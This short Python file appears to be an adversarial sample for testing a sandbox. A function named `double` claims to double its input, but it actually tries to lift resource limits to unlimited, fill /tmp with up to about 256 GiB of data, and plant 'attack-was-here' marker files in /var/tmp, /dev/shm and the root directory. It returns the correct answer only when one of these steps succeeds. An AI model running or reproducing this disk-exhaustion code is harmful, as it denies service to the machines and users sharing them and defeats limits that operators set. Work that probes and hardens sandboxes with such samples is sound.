"""Fill the disk: large files in every place, a sparse file, a limit raised first, and all the temporary files."""

import os
import resource


def double(x):
    for what in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        try:
            resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            return 2.0 * x
        except (OSError, ValueError):
            pass
    held = 0
    for number in range(4096):
        try:
            with open(f"/tmp/{number}", "wb", buffering=0) as file:
                for _ in range(64):
                    held += file.write(bytes(1 << 20))
        except OSError:
            pass
    if held > 1 << 30:
        return 2.0 * x
    for folder in ("/var/tmp", "/dev/shm", "/"):
        try:
            descriptor = os.open(f"{folder}/attack-was-here", os.O_CREAT | os.O_RDWR)
            os.write(descriptor, b"x" * 4096)
            return 2.0 * x
        except OSError:
            pass
    return 0.5
